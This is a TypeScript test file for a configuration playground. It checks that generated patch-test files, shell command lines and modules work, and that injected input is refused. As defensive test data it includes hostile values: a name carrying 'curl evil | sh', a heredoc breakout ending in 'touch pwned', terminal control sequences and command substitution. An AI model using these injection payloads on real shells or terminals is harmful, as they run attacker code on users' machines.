import { execFileSync } from "node:child_process";
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join, resolve } from "node:path";
import { pathToFileURL } from "node:url";
import { load } from "js-yaml";
import { describe, expect, test } from "vitest";
import { evaluate } from "../../../src/workbench/playground/worker/evaluate.ts";
import { GALLERY } from "../../../src/workbench/playground/gallery.ts";
import type { PlaygroundState } from "../../../src/workbench/playground/protocol.ts";
import { commandLineOf, testFileOf, typeScriptOf } from "../../../src/workbench/playground/test-file.ts";
import { runSuite } from "../../../src/workbench/patch-tests/run-suite.ts";
import { run } from "../../cli/support.ts";

const { state: edited } = GALLERY.find(({ name }) => name === "edit-flows-back")!;
const fileOf = async (state: PlaygroundState) => testFileOf(state, await evaluate(state))!;
const verdicts = async (file: string) => {
  const { problems, results } = await runSuite("a.patch-test.yaml", { read: () => Promise.resolve(file) });
  return { errors: problems.filter(({ severity }) => severity === "error"), verdicts: results.map(({ verdict }) => verdict) };
};

describe("a test file", () => {
  test("passes under the command line's test", async () => {
    const folder = mkdtempSync(join(tmpdir(), "playground-test-"));
    try {
      const path = join(folder, "web.patch-test.yaml");
      writeFileSync(path, await fileOf(edited));
      const { code, stdout } = await run(["test", path]);
      expect({ code, stdout }).toEqual({ code: 0, stdout: expect.stringMatching(/\b2\b/) as string });
    } finally {
      rmSync(folder, { recursive: true, force: true });
    }
  });

  test.each([
    ["an expression", '"blue-" + value', '"green-" + value'],
    ["a reverse expression", "/^blue-/", "/^blue/"],
    ["the cost", '"blue-" + value', '"blue-" + ["", value].join("")'],
  ])("fails when %s changes", async (_, before, after) => {
    const file = await fileOf(edited);
    expect(await verdicts(file)).toEqual({ errors: [], verdicts: ["passed", "passed"] });
    expect((await verdicts(file.replace(before, after))).verdicts).toContain("failed");
  });

  test("keeps the configuration as it was written, comments included, where that means the same", async () => {
    const config = `# why\n${edited.config}`;
    expect(await fileOf({ ...edited, config })).toContain("config:\n  # why\n  sync:\n");
  });

  test.each([
    ["behind a document's start", "---\n{}\n"],
    ["that is empty", ""],
    ["that is a comment", "# nothing\n"],
    [
      "with tabs and a block",
      "sync:\n  toHost:\n    endpoints:\n      patches:\n        - path: metadata.labels.app\n          expression: |\n            value\n",
    ],
  ])("takes a configuration %s", async (_, config) => {
    const { host: _host, ...unedited } = edited;
    expect(await verdicts(await fileOf({ ...unedited, config }))).toEqual({ errors: [], verdicts: ["passed"] });
  });

  test("brings the other objects along", async () => {
    const { state } = GALLERY.find(({ name }) => name === "reference")!;
    expect(Object.keys((load(await fileOf(state)) as { objects: object }).objects)).toEqual(["tenant", "secret-shop-tls-1"]);
  });

  test.each(["web; curl evil | sh #", "web\nconfig: {}"])("names no command that a name of %j has put in", async (name) => {
    const { host: _host, ...unedited } = edited;
    const file = await fileOf({ ...unedited, tenant: `{ apiVersion: v1, kind: Endpoints, metadata: { name: ${JSON.stringify(name)} } }` });
    expect(file?.split("\n").slice(0, 2)).toEqual([
      "# Run it: npx endpoint-sync test example.patch-test.yaml",
      expect.stringMatching(/^apiVersion: /),
    ]);
  });

  test("is not made while there is nothing to expect", async () => {
    const broken = { ...edited, config: "sync: [" };
    expect(testFileOf(broken, await evaluate(broken))).toBeUndefined();
    const off = { ...edited, config: "sync: { toHost: { endpoints: { enabled: false } } }" };
    expect(testFileOf(off, await evaluate(off))).toBeUndefined();
  });
});

test("a command line writes the settings too, where there are some", () => {
  const { state } = GALLERY.find(({ name }) => name === "address-policy")!;
  const script = commandLineOf(state);
  expect(script).toContain(`cat > settings.yaml <<'EOF'\n${state.settings}EOF\n`);
  expect(script).toContain("render --config vcluster.yaml --settings settings.yaml -f tenant.yaml");
  expect(commandLineOf({ ...state, settings: " \n" })).not.toContain("settings");
});

test.each([
  ["a key that deletes, which makes an end of the text", "EOFx\u007f\ntouch pwned"],
  ["a key that ends the command, in a comment", "# \u0003"],
  ["the end of what is pasted", "# \u001b[201~"],
  ["a character that shells leave out", "E\u0000OF"],
  ["a control character of eight bits", "# \u009b201~"],
])("a command line is not made of %s: a terminal would obey it", (_, text) => {
  const state = { config: "a: 1\n", tenant: "b: 2\n", settings: "c:\t3\n" };
  expect(commandLineOf(state)).toContain("c:\t3");
  for (const name of ["config", "tenant", "settings"]) expect(commandLineOf({ ...state, [name]: text })).toBeUndefined();
});

test("a command line writes the very texts, whatever is in them, and renders them", () => {
  const folder = mkdtempSync(join(tmpdir(), "playground-shell-"));
  const bin = join(folder, "npx");
  const config = "# $(exit 1) `x` 'y'\nEOF\n";
  try {
    writeFileSync(bin, '#!/bin/sh\necho "$@"\n', { mode: 0o755 });
    const script = commandLineOf({ config, tenant: "a: 1", vcluster: { name: "it's", namespace: "b" } })!;
    const said = execFileSync("sh", ["-euc", script], { cwd: folder, encoding: "utf8", env: { PATH: `${folder}:${process.env["PATH"]}` } });
    expect(readFileSync(join(folder, "vcluster.yaml"), "utf8")).toBe(config);
    expect(readFileSync(join(folder, "tenant.yaml"), "utf8")).toBe("a: 1\n");
    expect(said).toBe("endpoint-sync render --config vcluster.yaml -f tenant.yaml --name it's --namespace b\n");
  } finally {
    rmSync(folder, { recursive: true, force: true });
  }
});

test.each(["every-address", "address-policy"])("a module renders the object: %s", async (example) => {
  const { state } = GALLERY.find(({ name }) => name === example)!;
  const answer = await evaluate(state);
  const folder = mkdtempSync(join(tmpdir(), "playground-module-"));
  try {
    const index = pathToFileURL(resolve(import.meta.dirname, "../../../src/index.ts")).href;
    const file = join(folder, "render.mts");
    writeFileSync(file, typeScriptOf(state, answer)!.replace('"endpoint-sync"', JSON.stringify(index)));
    const print = `import(${JSON.stringify(pathToFileURL(file).href)}).then(({ object }) => console.log(JSON.stringify(object)))`;
    const said = execFileSync(process.execPath, ["--no-warnings", "--input-type=module", "--eval", print], { encoding: "utf8" });
    expect(JSON.parse(said)).toEqual(load(answer.host!));
  } finally {
    rmSync(folder, { recursive: true, force: true });
  }
});
